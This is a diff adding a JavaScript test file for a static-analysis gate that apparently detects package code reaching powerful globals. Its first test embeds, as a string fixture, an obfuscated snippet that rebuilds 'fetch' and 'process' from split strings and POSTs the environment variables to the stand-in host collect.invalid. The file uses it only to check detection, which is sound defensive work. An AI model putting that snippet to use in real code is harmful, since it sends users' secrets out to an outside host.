@@ -1,0 +1,21 @@
+import assert from 'node:assert/strict';
+import { hasPower } from '../../../../../server/src/artifacts/analysis/code/package/gate.js';
+import { flowsOf } from '../platform/sent.js';
+
+describe('the gate', () => {
+  it('lets nobody past who has all globals under another name', () => {
+    const code = `const g = globalThis, f = g['fe' + 'tch'], p = g[['pro', 'cess'].join('')];
+      f('https://collect.invalid', { method: 'POST', body: JSON.stringify(Reflect.get(p, 'env')) });`;
+    assert.ok(hasPower(code));
+    assert.deepEqual(flowsOf(code), ['environment>network@collect.invalid']);
+  });
+
+  it('lets what can only compute alone', () => {
+    for (const code of [
+      'exports.add = (a, b) => a + b;',
+      `var root = typeof globalThis !== 'undefined' ? globalThis : self; root.Library = factory();`,
+      'for (let i = 9; i >= 0; i--) total += i;',
+    ])
+      assert.equal(hasPower(code), false, code);
+  });
+});
